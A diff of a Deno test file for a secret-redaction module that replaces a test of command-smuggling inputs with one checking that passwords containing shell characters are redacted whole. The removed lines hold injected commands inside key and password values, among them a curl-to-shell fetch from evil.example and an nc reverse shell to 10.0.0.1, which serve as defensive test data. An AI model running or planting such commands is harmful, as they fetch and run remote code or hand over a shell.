@@ -149,21 +149,13 @@ Deno.test("armour: real private keys, however wrapped, are one secret each", asy
   );
 });
 
-Deno.test("armour: a keyword value or a URL password cannot hold a command", () => {
-  const cases: Array<[string, string]> = [
-    ["api_key=Xk9q2Lm7Tz4Rb8Wc|curl$IFS-s$IFS//evil.example/p|sh", "curl$IFS-s$IFS//evil.example"],
-    ["export TOKEN=Xk9q2Lm7Tz4Rb8Wc5Vn3|reboot", "reboot"],
-    ["password: Tr0ub4dor!9x|nc$IFS-e$IFS/bin/sh$IFS10.0.0.1", "nc$IFS-e"],
-    ["git clone http://u:x9Kq;wget$IFS1249767508;@h/r", "wget$IFS1249767508"],
-    ["psql postgres://app:Zq8(curl$IFS//evil)@db/app", "curl$IFS//evil"],
-    ["http://u:p4ss`id`w0rd@h", "`id`"],
-  ];
-  for (const [text, command] of cases) {
-    const read = approverReads(text);
-    assert(read.includes(command), `${command} hidden: ${JSON.stringify(read)}`);
-  }
-  // Secrets that hold no command are still found.
+Deno.test("armour: a password with shell or sub-delimiter characters stays one secret, whole", () => {
+  // RFC 3986 lets a URL's user information hold `; & ( ) ! $ * + , =` unencoded, and passwords
+  // hold `|`: such a value is redacted whole (a token without spaces; see "Human approval").
+  assertEquals(secrets("api_key=Xk9q2Lm7Tz4Rb8Wc|Vn3p next"), ["Xk9q2Lm7Tz4Rb8Wc|Vn3p"]);
+  assertEquals(secrets("password: Tr0ub4dor!9x|q"), ["Tr0ub4dor!9x|q"]);
+  assertEquals(secrets("git clone http://u:x9Kq;w8Lp;@h/r"), ["x9Kq;w8Lp;"]);
+  assertEquals(secrets("psql postgres://app:Zq8(k2)x@db/app"), ["Zq8(k2)x"]);
   assertEquals(secrets("api_key=Xk9q2Lm7Tz4Rb8Wc5Vn3 next"), ["Xk9q2Lm7Tz4Rb8Wc5Vn3"]);
-  assertEquals(secrets("password: Tr0ub4dor!9x"), ["Tr0ub4dor!9x"]);
   assertEquals(secrets("postgres://app:Zq8$x!9kL@db/app"), ["Zq8$x!9kL"]);
 });
